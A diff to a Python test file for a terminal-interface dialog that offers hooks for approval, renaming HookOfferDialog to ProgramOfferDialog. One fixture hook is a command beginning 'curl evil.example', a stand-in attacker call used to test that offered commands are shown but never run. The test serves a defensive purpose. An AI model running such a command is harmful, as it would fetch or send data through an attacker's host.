@@ -7,7 +7,7 @@ from clew.protocol.hook_events import HookState
 from clew.protocol.ids import OpId
 from clew.protocol.ops import ApproveHooks
 from clew.tui.dialogs.base import Dialog
-from clew.tui.dialogs.hook_offer import HookOfferDialog
+from clew.tui.dialogs.program_offer import ProgramOfferDialog
 from clew.tui.dialogs.registry import DialogContext, dialog_for, opens
 from tui.hosting import SIZES, Host
 
@@ -28,7 +28,7 @@ TWO = HooksOffered(hooks=(row("d1", "./check.sh"), row("d2", "curl evil.example\
 
 
 def two() -> Dialog:
-    return HookOfferDialog(TWO, quiet_s=0)
+    return ProgramOfferDialog(TWO, quiet_s=0)
 
 
 @pytest.mark.parametrize(
@@ -82,7 +82,7 @@ async def test_commands_are_shown_as_they_are_and_never_act(size: tuple[int, int
 def test_the_registry_opens_it_and_a_list_that_settles_all_closes_it() -> None:
     assert opens(TWO)
     dialog = dialog_for(TWO, DialogContext())
-    assert isinstance(dialog, HookOfferDialog)
+    assert isinstance(dialog, ProgramOfferDialog)
     one = HooksListed(op_id=OpId("x"), hooks=(row("d1", "x", "approved"), row("d2", "x")))
     both = HooksListed(op_id=OpId("x"), hooks=(row("d1", "x", "approved"), row("d2", "x", "approved")))
     assert not dialog.settled_by(one)
